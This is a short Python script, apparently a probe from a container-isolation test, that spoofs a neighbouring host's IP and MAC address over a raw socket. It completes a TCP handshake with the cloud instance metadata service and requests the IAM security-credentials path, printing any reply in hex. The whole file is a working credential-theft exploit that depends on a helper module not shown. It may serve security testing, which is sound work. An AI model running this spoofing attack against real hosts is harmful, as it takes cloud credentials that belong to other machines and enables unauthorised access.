"""Speaks in a neighbour's name, with no more than Docker's default capabilities (NET_RAW).

spoof.py MODE VICTIM-IP VICTIM-MAC GATEWAY: a whole handshake and a GET, over a raw socket; see wire.Name.
The last line says how far it came: "no connection", "reset", or "answer " and what was heard, in hex.
"""
import random
import sys
import time

from wire import METADATA4, METADATA6, Name, wire

name = Name(*sys.argv[1:5])
HOST = "[%s]" % METADATA6 if name.is6 else METADATA4
REQUEST = b"GET /latest/meta-data/iam/security-credentials/ HTTP/1.1\r\nHost: %s\r\nConnection: close\r\n\r\n" % HOST.encode()
SYN, RST, PSH, ACK = 2, 4, 8, 16

wire.settimeout(0.1)
port = random.randint(20000, 60000)


def hear(seconds):
    """The next TCP segment of our connection: flags, sequence, data."""
    end = time.time() + seconds
    while time.time() < end:
        try:
            segment = name.heard(wire.recv(65535))
        except TimeoutError:
            continue
        if segment and segment[0] == port:
            return segment[2], segment[1], segment[3]
    return None


start = random.randint(1, 2**31)
heard = None
for _ in range(5):
    name.claim()
    name.send((port, start, 0, SYN))
    heard = hear(0.5)
    if heard:
        break
if not heard:
    sys.exit(print("no connection"))
if heard[0] & RST:
    sys.exit(print("reset"))
expected, answer = heard[1] + 1, b""
name.send((port, start + 1, expected, ACK))
name.send((port, start + 1, expected, PSH | ACK), REQUEST)
for _ in range(12):
    name.claim()
    heard = hear(0.4)
    if heard and heard[1] == expected:
        answer += heard[2]
        expected += len(heard[2])
        name.send((port, start + 1 + len(REQUEST), expected, ACK))
print("answer", answer.hex())
